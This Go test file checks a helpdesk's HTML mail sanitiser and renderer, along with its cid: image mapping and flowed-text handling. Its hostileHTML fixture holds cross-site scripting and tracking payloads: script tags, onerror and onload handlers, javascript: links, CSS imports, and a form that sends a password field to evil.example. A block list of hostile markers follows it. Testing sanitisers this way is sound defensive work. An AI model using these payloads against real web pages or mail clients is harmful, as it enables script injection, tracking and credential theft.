package mailin

import (
	"strings"
	"testing"

	"github.com/loopdesk/loopdesk/internal/tickets"
)

// hostileHTML is a mail body that tries every way HTML has to run code,
// restyle the desk or reach out before a rep asks.
const hostileHTML = `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/sheet.css">
<style>body{background:url(https://evil.example/style-bg.png)} @import url(https://evil.example/import.css);</style>
<script>parent.document.title='pwned-script'</script>
</head><body onload="parent.document.title='pwned-onload'">
<h1>Order #4411</h1>
<table border="1" cellpadding="4"><tr><td align="center" style="color:#336699;background-image:url(https://evil.example/td-bg.png)">Kettle</td>
<td style="background-color: url(https://evil.example/css-url.png)">1</td><td background="https://evil.example/attr-bg.png">2</td></tr></table>
<ul><li>one</li><li>two</li></ul>
<p><a href="javascript:parent.document.title='pwned-link'">click me</a>
<a href="https://shop.example/orders/4411">Your order</a>
<a href="data:text/html,<script>alert(1)</script>">data link</a></p>
<img src="x" onerror="parent.document.title='pwned-onerror'">
<img src="https://evil.example/pixel.gif" width="1" height="1" alt="">
<img srcset="https://evil.example/srcset.png 2x">
<img src="cid:logo@shop.example" alt="Shop logo">
<svg><image href="https://evil.example/svg.png"/><script>alert(1)</script></svg>
<form action="https://evil.example/form"><input name="password"><button>Send</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/obj"></object>
<embed src="https://evil.example/embed"><video poster="https://evil.example/poster.png"></video>
<audio src="https://evil.example/audio.mp3"></audio>
<div style="width:10px;behavior:url(x.htc);-moz-binding:url(x.xml)">styled</div>
<p style="font-weight:bold">kept bold</p>
</body></html>`

func TestSanitizeHTMLRemovesEverythingHostile(t *testing.T) {
	clean := SanitizeHTML(hostileHTML)
	lower := strings.ToLower(clean)
	for _, bad := range []string{"<script", "<style", "<meta", "<base", "<link", "onload", "onerror", "javascript:",
		"url(", "@import", "<form", "<input", "<iframe", "<object", "<embed", "<svg", "<video", "<audio",
		"background=", "srcset", "behavior", "binding", "data:text", "pwned", "refresh", "sheet.css", "poster"} {
		if strings.Contains(lower, bad) {
			t.Errorf("sanitised HTML still has %q:\n%s", bad, clean)
		}
	}
	for _, good := range []string{"<table", "<td", "<ul>", "<li>", "Order #4411", `href="https://shop.example/orders/4411"`,
		`src="cid:logo@shop.example"`, `src="https://evil.example/pixel.gif"`, "color: #336699", "font-weight: bold", `rel="nofollow noreferrer noopener"`} {
		if !strings.Contains(clean, good) {
			t.Errorf("sanitised HTML lost %q:\n%s", good, clean)
		}
	}

	// Shown to a rep: the cid: image points at its attachment, remote
	// images are gone until asked for, nothing else is fetched.
	shown, remote := RenderHTML(clean, map[string]string{"logo@shop.example": "/tickets/7/attachments/3"}, false)
	if !remote {
		t.Error("remote images not reported")
	}
	if strings.Contains(shown, "evil.example/pixel.gif") || strings.Contains(shown, "https://evil.example") && strings.Contains(shown, "<img src=\"https") {
		t.Errorf("a remote image survived before Show images:\n%s", shown)
	}
	if !strings.Contains(shown, `<img src="/tickets/7/attachments/3" alt="Shop logo">`) {
		t.Errorf("cid: image not mapped to its attachment:\n%s", shown)
	}
	withImages, _ := RenderHTML(clean, nil, true)
	if !strings.Contains(withImages, `src="https://evil.example/pixel.gif"`) {
		t.Errorf("Show images did not bring the remote image back:\n%s", withImages)
	}
	if strings.Contains(withImages, "cid:") {
		t.Errorf("an unknown cid: image was left pointing nowhere:\n%s", withImages)
	}
	// The stored text is sanitised again on display: a row written by an
	// older policy (or by hand) cannot smuggle a script through.
	if again, _ := RenderHTML(`<p>hi</p><script>alert(1)</script><img src=x onerror=alert(1)>`, nil, true); strings.Contains(again, "script") || strings.Contains(again, "onerror") {
		t.Errorf("display did not sanitise again: %s", again)
	}
}

func TestHTMLMailIsKeptWithItsInlineImage(t *testing.T) {
	b := setup(t)
	raw := eml("From: Shop Customer <cust@example.com>", "To: "+deskAddress, "Subject: Newsletter-style question",
		"Message-ID: <html1@example.com>", "MIME-Version: 1.0", `Content-Type: multipart/related; boundary="rel"`, "",
		"--rel", "Content-Type: text/html; charset=utf-8", "",
		`<p>My <b>kettle</b> leaks:</p><img src="cid:photo1@example.com"><img src="https://tracker.example/p.gif"><script>alert(1)</script>`,
		"--rel", "Content-Type: image/png", "Content-ID: <photo1@example.com>", "Content-Transfer-Encoding: base64", "", b64(pngBytes),
		"--rel--")
	res := b.receive(t, raw)
	if res.Outcome != string(tickets.EmailCreated) {
		t.Fatalf("result = %+v", res)
	}
	msgs, err := b.store.Messages(b.ctx, res.TicketID, true)
	if err != nil {
		t.Fatal(err)
	}
	m := msgs[0]
	if !m.HasHTML || !m.RemoteImages || !strings.Contains(m.Body, "kettle") {
		t.Fatalf("message = %+v", m)
	}
	h, err := b.store.MessageHTML(b.ctx, res.TicketID, m.ID)
	if err != nil {
		t.Fatal(err)
	}
	files, err := b.store.Attachments(b.ctx, res.TicketID, true)
	if err != nil {
		t.Fatal(err)
	}
	if len(files) != 1 || h.CIDs["photo1@example.com"] != files[0].ID || strings.Contains(h.HTML, "script") {
		t.Fatalf("html = %+v, files = %+v", h, files)
	}
	if _, err := b.store.MessageHTML(b.ctx, res.TicketID+1, m.ID); err == nil {
		t.Error("the HTML was found through another ticket")
	}
}

func TestUnflow(t *testing.T) {
	for _, c := range []struct {
		in    string
		delsp bool
		want  string
	}{
		{"The lid arrived with a scratch. Can you send a new \r\none?\r\n\r\nSanna", false, "The lid arrived with a scratch. Can you send a new one?\n\nSanna"},
		{"abc \r\ndef", true, "abcdef"},
		{"> quoted \r\n> more\r\nnot quoted", false, "> quoted more\nnot quoted"},
		{"-- \r\nSanna", false, "-- \nSanna"},
		{" From here (space-stuffed)", false, "From here (space-stuffed)"},
		{"ends soft ", false, "ends soft "},
	} {
		if got := unflow(c.in, c.delsp); got != c.want {
			t.Errorf("unflow(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}
